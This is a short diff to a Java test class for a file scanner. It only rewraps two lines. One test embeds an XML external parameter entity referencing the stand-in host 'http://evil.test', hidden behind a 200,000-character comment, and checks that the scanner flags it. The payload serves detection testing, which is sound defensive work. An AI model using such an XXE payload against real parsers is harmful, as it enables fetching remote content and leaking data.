@@ -70,13 +70,15 @@ class TextFilesTest {
         String whole = text.replace("; import", "\nimport");
         assertThat(rules(whole)).contains(rule);
         if (rule != Rule.CODE_SCRIPT) {
-            assertThat(Examined.rules(whole.getBytes(StandardCharsets.UTF_16), TextFiles::examine)).contains(rule);
+            assertThat(Examined.rules(whole.getBytes(StandardCharsets.UTF_16), TextFiles::examine))
+                    .contains(rule);
         }
     }
 
     @Test
     void entities_behind_a_long_comment_are_found() {
-        String document = "<!--" + "x".repeat(200_000) + "--><!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.test'> %x;]><r/>";
+        String document =
+                "<!--" + "x".repeat(200_000) + "--><!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.test'> %x;]><r/>";
         assertThat(rules(document)).contains(Rule.XML_ENTITY);
     }
 
